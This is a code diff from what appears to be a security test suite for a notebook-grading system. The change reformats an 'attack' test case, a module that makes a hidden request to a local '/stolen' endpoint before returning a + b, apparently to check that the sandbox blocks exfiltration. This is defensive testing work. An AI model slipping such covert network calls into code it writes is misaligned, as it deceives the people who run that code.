@@ -145,8 +145,9 @@ def attacks(course_dir, server_port):
             {
                 "notebook": solved,
                 "module": module(
-                    "import urllib.request\ntry:\n    urllib.request.urlopen('http://127.0.0.1:%d/stolen', timeout=3)\n"
-                    "except Exception:\n    pass\nreturn a + b" % server_port
+                    "import urllib.request\ntry:\n"
+                    f"    urllib.request.urlopen('http://127.0.0.1:{server_port}/stolen', timeout=3)\n"
+                    "except Exception:\n    pass\nreturn a + b"
                 ),
             },
             7,
